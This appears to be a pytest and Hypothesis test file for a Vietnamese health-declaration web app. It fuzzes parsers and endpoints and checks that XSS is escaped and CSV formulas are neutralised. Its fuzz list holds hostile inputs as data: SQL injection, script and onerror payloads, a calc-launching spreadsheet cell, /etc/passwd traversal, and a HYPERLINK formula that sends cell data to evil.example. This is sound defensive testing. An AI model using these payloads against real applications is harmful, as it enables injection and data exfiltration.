"""Bad input never breaks the app: Hypothesis fuzzes every parser (only its own InputError)
and every form endpoint (only 4xx, never 500); XSS payloads in free-text fields come out
escaped in every view that shows them; oversized bodies are refused early."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from khaibao.app import MAX_BODY_BYTES
from khaibao.arrivals.trips import parse_trip
from khaibao.citizens.declarations import parse_health
from khaibao.citizens.person_input import parse_person
from khaibao.core.errors import FormErrors, InputError
from khaibao.policies.policy_input import parse_policy
from khaibao.qr import scans, tokens
from khaibao.regions import regions
from khaibao.vn import identity, phones
from tests.helpers import csrf_from, sign_in_officer
from tests.http.test_attack_access_http import OFFICER_ROUTES, OTHER_ROUTES, _concrete, _csrf
from tests.http.test_citizen import declare, sign_in

KEY = b"fuzzing-secret-key-0123456789abcdef0123"
NASTY = st.sampled_from([
    "", " ", "0", "-1", "9" * 400, "１２３", "０９０５１２３４５６", "+84905123456",
    "84 905 123 456", "046090001234", "000000000", "DN4791234567890", "KB1P", "KB1V" + "Z" * 30,
    "\x00", "\u202e", "'; DROP TABLE person; --", "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0", "../../etc/passwd",
    "046090001234|191234567|Nguyễn Văn An|15031990|Nam|Huế|20042021", "||||||", "|" * 3000,
    "2021-02-30", "31/12/1899", "9999-99-99", "1e309", "NaN", "VN-46", "VN-46-" + "9" * 50,
    "\ufffd", "ß" * 50, "null", "[]", "{}", "%00", "a" * 5000,
])
TEXT = st.one_of(NASTY, st.text(max_size=60), st.text(alphabet="0123456789 +-.|/", max_size=40))
FUZZ = settings(max_examples=150, deadline=None)


def _only_input_errors(call, *args, **kwargs):
    try:
        call(*args, **kwargs)
    except (InputError, FormErrors):
        pass


# --- parsers: each raises only its own InputError ---------------------------------------------

@FUZZ
@given(TEXT)
def test_phone_parser(text):
    _only_input_errors(phones.normalize_mobile, text)


@FUZZ
@given(TEXT, st.sampled_from([None, *identity.IdType]))
def test_id_number_parser(text, id_type):
    _only_input_errors(identity.parse_id_number, text, id_type)


@FUZZ
@given(st.one_of(TEXT, st.lists(TEXT, min_size=7, max_size=8).map("|".join)))
def test_chip_cccd_parser(text):
    _only_input_errors(identity.parse_chip_cccd, text)
    assert isinstance(identity.looks_like_chip_cccd(text), bool)


@FUZZ
@given(TEXT)
def test_bhyt_parser(text):
    _only_input_errors(identity.parse_bhyt, text)


@FUZZ
@given(st.one_of(TEXT, st.text(alphabet=tokens.CROCKFORD + "KB1PLV:/.?#", max_size=80)))
def test_token_and_venue_code_parsers(text):
    _only_input_errors(tokens.verify, text, KEY)
    scan = scans.classify_scan(text, KEY)
    assert scan.kind is not None


FIELDS = ("full_name", "id_type", "id_number", "birth_year", "sex", "nationality", "region",
          "address_detail", "bhyt", "places_visited", "symptoms", "exposures", "pledge",
          "date_from", "date_to", "arrival_date", "departure_date", "origin", "destination",
          "transport", "origin_country", "origin_region", "origin_detail", "passed_regions",
          "arrival_at", "measure", "days", "starts_at", "ends_at", "target", "legal_reference",
          "name", "description", "from", "ngay")


@FUZZ
@given(st.dictionaries(st.sampled_from(FIELDS), TEXT, max_size=12))
def test_form_parsers(fields):
    _only_input_errors(parse_person, fields)
    _only_input_errors(parse_health, fields)
    _only_input_errors(parse_trip, fields, province_code="VN-46",
                        today=datetime.now(UTC).date())
    _only_input_errors(parse_policy, fields, now=datetime.now(UTC))


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TEXT)
async def test_region_id_lookups(client, text):
    """Region ids and names from the region picker's queries: 4xx or an answer, never 500."""
    for path, params in (("/dia-ban/con", {"parent": text, "name": "region"}),
                         ("/dia-ban/tim", {"q": text, "within": text, "levels": text}),
                         ("/dia-ban/chon", {"chon": text, "region": text})):
        response = await client.get(path, params=params)
        assert response.status_code < 500, (path, text)


async def test_region_service_lookups_of_ordinary_garbage(database):
    for text in ("", "VN", "VN-46", "VN-46-" + "9" * 50, "'; --", "ß" * 50, "%", "_"):
        assert await regions.get(text) is None or text in ("VN", "VN-46")
        await regions.children(text)
        await regions.search(text)


@pytest.mark.parametrize("how", ["query", "form", "json"])
async def test_nul_bytes_are_refused_with_400_not_500(client, outbox_path, how):
    """PostgreSQL cannot store NUL in text: a %00 used to be a 500 there (region search, any
    form). security.reject_nul_bytes answers 400 first, on both engines."""
    headers = await _csrf(client)
    if how == "query":
        response = await client.get("/dia-ban/tim", params={"q": "a\x00b"})
    elif how == "form":
        await sign_in(client, outbox_path)
        response = await declare(client, "ref-nul-byte-0001", address_detail="a\x00b")
    else:
        response = await client.post("/api/v1/decisions", headers=headers,
                                     json={"person_token": "KB1P\x00"})
    assert response.status_code == 400, response.status_code
    assert response.headers["x-content-type-options"] == "nosniff"
    huge_id = await client.get("/qr/2147483648/ma-qr.png")
    assert huge_id.status_code in (303, 404)
    uploaded = await client.post("/xac-thuc/gui-ma", headers=headers,
                                 files={"f": ("a.csv", b"x\x00y")}, data={"phone": "x"})
    assert uploaded.status_code != 400 or "NUL" not in uploaded.text


# --- every form endpoint: 4xx for garbage, never 500 -------------------------------------------

POSTS = sorted({(m, p) for m, p, _ in OFFICER_ROUTES} | set(OTHER_ROUTES))
POSTS = [(m, p) for m, p in POSTS if m in ("POST", "GET") and not p.startswith("/static")]


async def _harvest_names(client: httpx.AsyncClient) -> list[str]:
    names: set[str] = set(FIELDS)
    for method, path in POSTS:
        if method == "GET" and path != "/kbyt/them-nguoi":
            page = await client.get(_concrete(path))
            names.update(re.findall(r'<(?:input|select|textarea)[^>]* name="([^"]+)"', page.text))
    return sorted(names - {"_csrf_token"})


# Known 500s, each proven by its own strict-xfail test (remove the entry with the fix).
KNOWN_500: set[tuple[str, str, str, bool | str]] = set()


def _known_500(method: str, path: str, who: str, htmx: bool) -> bool:
    return any((m, p) == (method, path) and w in ("*", who) and h in ("*", htmx)
               for m, p, w, h in KNOWN_500)


@pytest.mark.parametrize("who", ["anonymous", "citizen", "admin"])
async def test_every_endpoint_answers_garbage_without_a_500(client, outbox_path, who):
    if who == "citizen":
        await sign_in(client, outbox_path)
    elif who == "admin":
        await sign_in_officer(client, "admin", name="Quản Trị Thử Lỗi")
    headers = await _csrf(client)
    names = await _harvest_names(client)
    failures = []
    cases = []

    @settings(max_examples=40, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.data())
    def draw(data):  # Hypothesis draws the cases; the loop below sends them
        method, path = data.draw(st.sampled_from(POSTS))
        number = data.draw(st.sampled_from([0, 1, 2, 2**31, 10**18]))
        form = data.draw(st.dictionaries(st.sampled_from(names), TEXT, max_size=10))
        query = data.draw(st.dictionaries(st.sampled_from(["q", "tiep", "ref", "i", "ngay", "loai",
                                                           "from", "region", "since"]), TEXT,
                                          max_size=3))
        cases.append((method, _concrete(path, number), path, form, query, data.draw(st.booleans())))

    draw()
    for method, url, path, form, query, htmx in cases:
        extra = {"HX-Request": "true"} if htmx else {}
        if _known_500(method, path, who, htmx):
            continue
        try:
            response = await client.request(
                method, url, params=query, data=form if method == "POST" else None,
                headers={**headers, **extra}, follow_redirects=False)
        except httpx.InvalidURL:
            continue
        if response.status_code >= 500:
            failures.append((who, method, url, form, query, response.status_code))
    for method, path in POSTS:  # and each endpoint once, with every field full of garbage
        if method == "POST" and not _known_500(method, path, who, False):
            form = dict.fromkeys(names, "<b>x</b>'\"|%00" * 3)
            response = await client.post(_concrete(path), data=form, headers=headers,
                                         follow_redirects=False)
            if response.status_code >= 500:
                failures.append((who, method, path, "all fields", response.status_code))
    assert failures == []


async def test_code_step_with_a_bad_phone_is_a_422_not_a_500(client):
    headers = await _csrf(client)
    response = await client.post("/xac-thuc/ma", data={"phone": "", "code": "123456"},
                                 headers=headers)
    assert response.status_code == 422


async def test_new_person_fragment_opened_as_a_page_is_not_a_500(client, outbox_path):
    await sign_in(client, outbox_path)
    response = await client.get("/kbyt/them-nguoi", follow_redirects=False)
    assert response.status_code < 500


@pytest.mark.parametrize("path", ["/kbyt/bhyt", "/kbyt/cccd"])
async def test_fill_fragments_posted_without_htmx_are_not_a_500(client, outbox_path, path):
    await sign_in(client, outbox_path)
    headers = await _csrf(client)
    response = await client.post(path, data={"fill": "0", "p0_bhyt": "DN4791234567890",
                                              "p0_chip_text": "x"}, headers=headers,
                                 follow_redirects=False)
    assert response.status_code < 500


# --- XSS: payloads in free-text fields come out escaped wherever they are shown ---------------

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def _escaped_everywhere(html: str) -> None:
    assert "<script>alert" not in html
    assert "<img src=x onerror" not in html
    assert "&lt;script&gt;alert" in html or "&lt;img" in html


async def test_xss_in_citizen_fields_is_escaped_in_every_view(client, outbox_path):
    await sign_in(client, outbox_path)
    page = await client.get("/kbyt/khai-bao")
    data = {"_csrf_token": csrf_from(page.text), "client_ref": "ref-xss-000000001",
            "pledge": "on", "places_visited": XSS, "p0_full_name": "Lê Thị " + XSS,
            "p0_id_type": "cmnd", "p0_id_number": "191234999", "p0_birth_year": "1985",
            "p0_sex": "female", "p0_nationality": "VN", "p0_address_detail": XSS, "p0_bhyt": ""}
    response = await client.post("/kbyt/khai-bao", data=data, follow_redirects=False)
    if response.status_code == 422:  # the name was refused as a name: the form shows it back
        _escaped_everywhere(response.text)
        data["p0_full_name"] = "Lê Thị Xss"
        response = await client.post("/kbyt/khai-bao", data=data, follow_redirects=False)
    assert response.status_code == 303, response.text[:500]
    for path in ("/qr", "/kbyt/khai-bao"):
        html = (await client.get(path)).text
        assert "<script>alert" not in html and "<img src=x onerror" not in html, path
    # the same payload in form fields kept on error (422) is escaped too
    bad = await declare(client, "ref-xss-000000002", full_name=XSS, birth_year="1700")
    assert bad.status_code == 422
    _escaped_everywhere(bad.text)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


async def test_xss_and_formulas_reach_officers_escaped_and_neutralised(client, outbox_path):
    """A citizen's free text (places visited, address) as the officer sees it: escaped in the
    check result, and CSV cells starting with = + - @ neutralised (formula injection)."""
    await sign_in(client, outbox_path)
    page = await client.get("/kbyt/khai-bao")
    data = {"_csrf_token": csrf_from(page.text), "client_ref": "ref-xss-officer-01",
            "pledge": "on", "places_visited": FORMULA + " " + XSS, "p0_full_name": "Hồ Văn Xét",
            "p0_id_type": "cmnd", "p0_id_number": "191234777", "p0_birth_year": "1975",
            "p0_sex": "male", "p0_nationality": "VN", "p0_region": "VN-46",
            "p0_address_detail": "@SUM(1+1) " + XSS, "p0_bhyt": ""}
    response = await client.post("/kbyt/khai-bao", data=data, follow_redirects=False)
    assert response.status_code == 303, response.text[:300]
    token = "191234777"  # the officer looks the person up by ID number

    client.cookies.clear()
    await sign_in_officer(client, "admin", name="Quản Trị XSS")
    check = await client.get("/kiemtra/")
    result = await client.post("/kiemtra/tra-cuu", data={"q": token},
                               headers={"x-csrftoken": csrf_from(check.text),
                                        "HX-Request": "true"})
    assert result.status_code == 200 and "Hồ Văn Xét" in result.text
    assert "<script>alert" not in result.text and "<img src=x onerror" not in result.text
    for path in ("/quan-tri/nhat-ky", "/quan-tri/tong-quan", "/quan-tri/nguoi-den"):
        html = (await client.get(path)).text
        assert "<script>alert" not in html and "<img src=x onerror" not in html, path
    exported = await client.get("/quan-tri/xuat-du-lieu/tai-ve",
                                params={"loai": "health_declaration"})
    assert exported.status_code == 200, exported.text[:300]
    assert "Hồ Văn Xét" in exported.text or "HYPERLINK" in exported.text
    import csv
    import io
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and len(cell) > 1 and not cell[1:2].isdigit()), cell


# --- oversized bodies are refused early ---------------------------------------------------------

@pytest.mark.parametrize("path", ["/xac-thuc/gui-ma", "/kbyt/khai-bao", "/quet",
                                  "/can-bo/dang-nhap/xac-minh", "/api/v1/decisions"])
async def test_oversized_body_is_refused_before_the_handler(client, path):
    body = b"phone=" + b"9" * (MAX_BODY_BYTES + 1)
    headers = await _csrf(client)
    response = await client.post(path, content=body, headers={
        **headers, "content-type": "application/x-www-form-urlencoded"})
    # sign-in (the API: its key) is asked for before the body is read at all
    unread = {"/kbyt/khai-bao": 303, "/api/v1/decisions": 401}.get(path)
    if unread:
        assert response.status_code in (unread, 413)
    else:
        assert response.status_code == 413, (path, response.status_code)
    # a claimed huge length is refused without reading a byte of it
    claimed = await client.post(path, content=b"phone=1", headers={
        **headers, "content-type": "application/x-www-form-urlencoded",
        "content-length": str(50 * 1024 * 1024)})
    allowed = (unread, 400, 413) if unread else (400, 413)
    assert claimed.status_code in allowed, (path, claimed.status_code)
